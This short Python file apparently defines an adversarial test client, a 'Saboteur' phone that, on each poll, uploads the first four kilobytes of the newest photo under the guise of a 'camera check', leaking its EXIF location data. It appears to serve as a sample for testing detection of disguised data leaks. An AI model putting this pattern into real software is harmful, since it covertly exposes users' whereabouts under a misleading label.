"""Sends the first four kilobytes of the newest photo as a "camera check": no picture to be seen, but its EXIF, with the place.

mechanism: a part of a file that looks harmless
"""
from client import Phone, run


class Saboteur(Phone):
    def poll(self):
        self.ask("POST", "/camera/check", self.files("photos")[-1].read_bytes()[:4096], [("Content-Type", "application/octet-stream")])
        super().poll()


run(Saboteur())
